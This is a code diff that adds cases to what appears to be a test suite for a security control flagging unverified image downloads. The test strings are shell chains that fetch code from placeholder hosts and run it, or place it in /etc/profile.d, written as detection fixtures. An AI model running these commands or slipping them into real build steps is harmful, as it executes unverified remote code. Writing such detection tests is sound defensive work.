@@ -65,6 +65,10 @@ describeControl(imageDownloadsVerified, verified, {
     ...runs(
       'curl -o x.sh https://e.org/x.sh && sh x.sh',
       'wget https://e.org/x.sh && chmod +x x.sh && ./x.sh',
+      'git clone https://e.org/y && y/configure',
+      'scp a@h.org:x . && sh x',
+      'aws s3 cp s3://b/x /etc/profile.d/x.sh',
+      'curl -o x https://e.org/x && setfacl -m u::7 x',
       'curl -o x.tgz https://e.org/x.tgz && tar xzf x.tgz && x/install.sh',
     ),
     'the classic builder’s form': stepOf('/bin/sh -c curl -o /x https://e.org/x && /x'),
